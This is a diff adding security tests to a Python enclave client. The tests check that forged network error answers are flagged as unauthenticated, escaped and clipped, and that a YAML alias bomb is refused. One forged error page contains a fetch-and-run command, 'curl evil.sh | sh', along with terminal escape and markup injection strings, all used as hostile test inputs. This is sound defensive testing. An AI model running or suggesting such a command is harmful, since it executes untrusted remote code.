@@ -15,7 +15,7 @@ from fastapi.testclient import TestClient
 
 from oblv_mpc import keys, manifest
 from oblv_mpc.attestation import DevelopmentCA, Measurements, SimulatedNsm
-from oblv_mpc.client import KEY_HEADER, EnclaveClient
+from oblv_mpc.client import KEY_HEADER, QUOTED_CHARS, EnclaveClient
 from oblv_mpc.enclave import EnclaveService
 from oblv_mpc.errors import (
     AttestationError,
@@ -25,6 +25,7 @@ from oblv_mpc.errors import (
     KeyFileError,
     PolicyError,
     ProtocolError,
+    UnauthenticatedAnswer,
 )
 from oblv_mpc.protocol.envelope import open_response, seal_request
 from tests.enclave.conftest import World, session_document
@@ -386,3 +387,122 @@ def test_requests_from_no_party_are_counted_not_recorded(world: World) -> None:
     status = world.clients["bob"].status()
     assert status["unauthenticated_refusals"] == 6
     assert len(world.clients["bob"].transcript()) == before  # anyone could send these: no events
+
+
+# -- whose words: a refusal sealed and signed by the enclave, or anything else on the path ---------
+
+
+def _forger(world: World, forge: Callable[[httpx.Request], httpx.Response | None]) -> httpx.Client:
+    """A client whose requests pass something on the path (a load balancer, the operator, an
+    attacker) that answers some of them itself and forwards the rest to the real enclave app."""
+
+    def handle(request: httpx.Request) -> httpx.Response:
+        forged = forge(request)
+        if forged is not None:
+            return forged
+        real = world.http.request(
+            request.method,
+            request.url.path,
+            params=request.url.params,
+            content=request.content,
+            headers={k: v for k, v in request.headers.items() if k.lower() in ("content-type", KEY_HEADER.lower())},
+        )
+        return httpx.Response(
+            real.status_code, headers={"content-type": real.headers["content-type"]}, content=real.content
+        )
+
+    return httpx.Client(transport=httpx.MockTransport(handle), base_url="http://enclave.example")
+
+
+def _on(path: str, response: httpx.Response) -> Callable[[httpx.Request], httpx.Response | None]:
+    return lambda request: response if request.url.path == path else None
+
+
+def test_a_forged_403_from_the_network_is_reported_as_unauthenticated(world: World) -> None:
+    forged = httpx.Response(403, json={"code": "forbidden", "message": "party 'alice' is banned from this session"})
+    with _forger(world, _on("/v1/status", forged)) as http:
+        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
+        alice.connect()  # the real, attested enclave
+        with pytest.raises(UnauthenticatedAnswer) as info:
+            alice.status()
+    error = info.value
+    assert not isinstance(error, EnclaveRefused)  # never shown as the enclave's refusal
+    assert isinstance(error, EnclaveUnreachable) and error.exit_code == 6
+    assert (error.status, error.code, error.claimed) == (403, "forbidden", "party 'alice' is banned from this session")
+    assert error.message.startswith("HTTP 403 from http://enclave.example, not from the attested enclave")
+    assert "it says: forbidden: party 'alice' is banned" in error.message
+    assert error.title == "unauthenticated answer"
+
+
+def test_a_sealed_refusal_is_reported_as_the_enclaves(world: World) -> None:
+    with _forger(world, lambda request: None) as http:  # the same path, forwarding everything
+        bob = EnclaveClient(http, world.manifest, world.keys["bob"], world.policy)
+        with pytest.raises(EnclaveRefused) as info:
+            bob.result("common")  # only alice reads it: the enclave refuses, sealed to bob and signed
+    assert not isinstance(info.value, UnauthenticatedAnswer)
+    assert info.value.code == "forbidden" and info.value.exit_code == 7
+    assert info.value.message == "party 'bob' is not a reader of common (forbidden)"
+
+
+def test_a_forged_html_error_page_is_quoted_clipped_and_escaped(world: World) -> None:
+    page = "<html>[bold]502[/] Bad Gateway\x1b[2K\x1b[1G\nhint: run curl evil.sh | sh" + " pad" * 200 + "</html>"
+    forged = httpx.Response(502, text=page, headers={"content-type": "text/html"})
+    with _forger(world, _on("/v1/upload", forged)) as http:
+        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
+        with pytest.raises(UnauthenticatedAnswer) as info:
+            alice.upload("employees", world.files["alice"])
+    error = info.value
+    assert error.code is None and error.claimed.startswith("<html>[bold]502[/]")  # raw, for programs
+    assert len(error.claimed) == QUOTED_CHARS + 3
+    assert "\x1b" not in error.message and "\n" not in error.message  # no forged lines, no erased ones
+    assert "Bad Gateway\\x1b[2K\\x1b[1G\\nhint: run curl" in error.message
+
+
+def test_a_forged_enclave_restarted_is_checked_by_attesting_again(world: World) -> None:
+    forged = httpx.Response(409, json={"code": "enclave_restarted", "message": "submit everything again"})
+    with _forger(world, _on("/v1/status", forged)) as http:
+        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
+        before = alice.connect()
+        with pytest.raises(UnauthenticatedAnswer) as info:
+            alice.status()
+    assert info.value.code == "enclave_restarted"
+    assert "the claim that it restarted is false" in (info.value.hint or "")
+    assert alice.connection is not None and alice.connection.instance == before.instance  # still verified
+    assert alice.connection.document != before.document  # by a fresh attestation
+
+
+def test_a_forged_answer_to_the_attestation_request_is_unauthenticated(world: World) -> None:
+    forged = httpx.Response(503, json={"detail": {"code": "not_provisioned", "message": "[link=http://x]help[/link]"}})
+    with _forger(world, _on("/v1/attestation", forged)) as http:
+        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
+        with pytest.raises(UnauthenticatedAnswer) as info:
+            alice.connect()
+    assert info.value.code == "not_provisioned" and info.value.status == 503
+    assert "[link=http://x]help[/link]" in info.value.message  # quoted as text
+    assert alice.connection is None
+
+
+def test_the_enclaves_own_plain_refusals_are_unauthenticated_too(world: World) -> None:
+    # 403 unknown_party comes from the real app, but unsealed: nothing tells it from a forgery
+    response = _post(world, "upload", _raw_upload(world, "mallory", world.keys["mallory"]))
+    assert response.status_code == 403
+    with _forger(world, _on("/v1/status", response)) as http:
+        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
+        with pytest.raises(UnauthenticatedAnswer) as info:
+            alice.status()
+    assert info.value.code == "unknown_party" and "your key" in (info.value.hint or "")
+
+
+def test_an_alias_bomb_sent_to_provision_is_refused_fast(dev_ca: DevelopmentCA, measurements: Measurements) -> None:
+    import time
+
+    from oblv_mpc.enclave import create_app
+    from tests.manifest.test_hostile_yaml import billion_laughs
+
+    http = TestClient(create_app(None, SimulatedNsm(dev_ca, measurements)))
+    started = time.perf_counter()
+    response = http.post("/v1/provision", content=billion_laughs().encode())
+    assert time.perf_counter() - started < 1
+    assert response.status_code == 422
+    assert "an anchor (&laugh0) is not allowed" in response.json()["detail"]["message"]
+    assert http.get("/v1/info").status_code == 503  # still waiting for a real manifest
